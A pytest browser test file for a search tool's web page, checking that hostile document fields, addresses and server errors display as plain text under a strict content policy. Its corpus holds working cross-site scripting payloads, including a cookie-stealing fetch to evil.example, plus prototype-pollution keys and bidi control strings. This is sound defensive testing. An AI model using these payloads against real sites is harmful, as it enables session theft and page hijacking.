"""The page: whatever a document, a name or an address says, it is text."""

from __future__ import annotations

import re
from collections.abc import Iterator
from importlib import resources
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from browser import Visits, search, served, settled

import cormorant as cm

pytestmark = pytest.mark.soak  # a browser takes its time

STEAL = "fetch('https://evil.example/'+document.cookie)"
CORPUS = [
    "<script>alert(1)</script>",
    "</script><script src=https://evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/pixel.png>",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x>",
    f"<svg><script>{STEAL}</script></svg>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>press me</a>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea></style><style>@import 'https://evil.example/x.css';*{display:none}</style>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "\"><body onload=alert(1)>",
    "' autofocus onfocus=alert(1) x='",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><button autofocus>go</button></form>",
    "<math><mi xlink:href='javascript:alert(1)'>x",
    "<template><script>alert(1)</script></template>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} #{alert(1)}",
    "\u202egnorw si siht\u202c \u202etxt never closed",
    "\u2066\u2067\u2068 isolates \u200b\u200d\ufeff zero width",
    "nul \x00 bell \x07 escape \x1b[31m del \x7f vt \x0b",
    "\ufffe\uffff \ufdd0 noncharacters",
    "W" * 20_000,
    "Z" + "\u0300" * 2_000 + "algo",
    "مرحبا <b>bold</b> שלום",
    "__proto__ constructor toString",
]  # fmt: skip


def _hostile(number: int, said: str) -> cm.Document:
    return cm.Document(
        id=f"h{number} " + re.sub(r"[\x00-\x1f\x7f]", "", said)[:80],
        title=f"{said} hostile",
        text=f"hostile {said} hostile {said}",
        metadata={
            "said": said,
            "__proto__": {"polluted": said},
            "list": [said, 1, True],
            f"{said[:50]}": "key",
            "onclick": "alert(1)",
        },
    )


HOSTILE = [_hostile(number, said) for number, said in enumerate(CORPUS)]


@pytest.fixture(scope="module")
def hostile_url(headless: Any, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    folder = tmp_path_factory.mktemp("hostile")
    indexes = {"bm25": cm.BM25(), "flat": cm.BM25(k1=0.0, b=0.0)}
    with cm.Collection.create(folder / "hostile.cm", indexes=indexes) as hostile:
        hostile.add(HOSTILE)
    with served(folder / "hostile.cm") as url:
        yield url


@pytest.fixture
def hostile(headless: Any, hostile_url: str) -> Iterator[Visits]:
    visits = Visits(headless, hostile_url)
    yield visits
    visits.close()


def _elements(page: Any) -> set[str]:
    found: list[str] = page.evaluate(
        "[...document.querySelectorAll('#hits *')].map((one) => one.localName)"
    )
    return set(found)


def test_every_hostile_document_is_shown_as_the_text_it_is(hostile: Visits) -> None:
    page = hostile("#c=hostile&q=hostile&p=bm25&k=100&vs=flat")
    settled(page)
    assert page.locator(".side").first.locator(".hit").count() == len(HOSTILE)
    for label in ("Full text", "Scores"):
        page.evaluate(
            "(label) => document.querySelectorAll('.hit .acts > button').forEach("
            "(one) => one.textContent === label && one.click())",
            label,
        )
    assert page.locator(".full").count() == 2 * len(HOSTILE)
    titles = page.evaluate(
        "[...document.querySelectorAll('.side:first-child .title')].map((one) => one.textContent)"
    )
    texts = page.evaluate(
        "[...document.querySelectorAll('.side:first-child .full')].map((one) => one.textContent)"
    )
    assert sorted(titles) == sorted(one.title for one in HOSTILE)
    assert sorted(texts) == sorted(one.text for one in HOSTILE)
    assert _elements(page) <= {
        "section", "header", "h2", "h3", "h4", "p", "b", "span", "bdi", "div", "ul", "ol", "li",
        "mark", "button", "table", "thead", "tbody", "tr", "th", "td",
    }  # fmt: skip
    attributes = page.evaluate(
        "[...document.querySelectorAll('body *')].flatMap((one) => one.getAttributeNames())"
    )
    assert not [name for name in attributes if name.startswith("on") or name in ("src", "srcdoc")]
    links = page.evaluate("[...document.querySelectorAll('[href]')].map((one) => one.href)")
    assert all(link.startswith((hostile.url, "data:image/svg+xml,")) for link in links)
    assert page.evaluate("({}).polluted === undefined")
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    page.wait_for_timeout(300)  # time for what should not happen


@pytest.mark.parametrize("width", [360, 1280])
def test_overrides_and_huge_words_stay_in_their_hit(hostile: Visits, width: int) -> None:
    page = hostile("#c=hostile&q=hostile&k=100", viewport={"width": width, "height": 800})
    settled(page)
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    styles = page.evaluate(
        "['.title', '.snippet', '.id'].map((one) =>"
        " getComputedStyle(document.querySelector(one)).unicodeBidi)"
    )
    assert set(styles) == {"isolate"}


def test_pressing_hostile_values_and_judging_hostile_hits(hostile: Visits) -> None:
    page = hostile("#c=hostile&q=hostile&k=100")
    settled(page)
    page.wait_for_selector("#judged:not([hidden])")
    chips = page.locator("button.chip").count()
    assert chips > len(HOSTILE)
    for number in range(0, chips, max(1, chips // 4)):
        page.evaluate(f"document.querySelectorAll('button.chip')[{number}]?.click()")
        settled(page)
        page.locator("#filter").fill("")
        search(page, "hostile")
    page.locator(".grade").first.click()
    page.wait_for_selector("#toast p")  # ids with spaces
    assert page.evaluate("({}).polluted === undefined")


@pytest.mark.parametrize("said", [CORPUS[0], CORPUS[10], CORPUS[22]])
def test_a_hostile_address_is_text_too(hostile: Visits, said: str) -> None:
    everywhere = quote(said)
    page = hostile(f"#c=hostile&q={everywhere}&p={everywhere}&vs={everywhere}&k={everywhere}")
    page.wait_for_selector(".problem, .hit, .field-error:not([hidden])")
    other = hostile(f"#c={everywhere}&q=hostile")
    other.wait_for_selector(".notice")
    assert said.strip() in other.locator(".notice").text_content()


def test_a_hostile_server_message_is_text(hostile: Visits) -> None:
    page = hostile()
    page.wait_for_selector(".empty h2")
    said = CORPUS[2]
    body = {"status": 422, "detail": said, "code": said, "field": said, "request_id": said}
    page.route("**/search", lambda route: route.fulfill(status=422, json=body))
    search(page, "hostile")
    assert page.locator(".problem").inner_text().count("<img") == 4
    assert page.locator("#hits img").count() == 0


def _files() -> list[Any]:
    folder = resources.files("cormorant.api") / "page"
    return [item for item in folder.iterdir() if item.name.endswith((".js", ".html", ".css"))]


def test_nothing_in_the_page_parses_markup_or_runs_text() -> None:
    forbidden = re.compile(
        r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|\beval\b|new Function|srcdoc"
        r"|DOMParser|createContextualFragment|setHTML|setTimeout\(\s*[\"'`]|localStorage"
        r"|document\.cookie|javascript:"
    )
    files = _files()
    assert len(files) > 10
    for item in files:
        found = forbidden.findall(item.read_text(encoding="utf-8"))
        # "cormorant eval" is a command that the help names
        assert [word for word in found if not (item.name == "index.html" and word == "eval")] == []


def test_the_page_asks_nobody_else_and_has_nothing_inline() -> None:
    for item in _files():
        text = item.read_text(encoding="utf-8")
        addresses = set(re.findall(r"https?://[^\s\"'<>)]+", text))
        assert addresses <= {"http://www.w3.org/2000/svg"}, item.name
        if item.name == "index.html":
            assert not re.search(r"<style|\sstyle=|\son[a-z]+=|<script(?![^>]*src=)", text)
        if item.name.endswith(".css"):
            assert "@import" not in text and "url(" not in text


def test_the_policy_is_on_the_page(papers_url: str) -> None:
    import httpx2

    answer = httpx2.get(papers_url)
    policy = answer.headers["content-security-policy"]
    for rule in ("default-src 'none'", "script-src 'self'", "style-src 'self'",
                 "connect-src 'self'", "base-uri 'none'", "form-action 'none'",
                 "frame-ancestors 'none'"):  # fmt: skip
        assert rule in policy
    assert "unsafe" not in policy


def test_a_wheel_would_hold_the_page() -> None:
    import tomllib

    from paths import ROOT

    data = tomllib.loads((ROOT / "pyproject.toml").read_text())["tool"]["setuptools"][
        "package-data"
    ]
    patterns = [*data["*"], *data.get("cormorant.api.page", [])]
    for path in Path(ROOT / "api" / "page").iterdir():
        if path.is_file() and path.suffix != ".py":
            assert any(path.match(pattern) for pattern in patterns), path.name
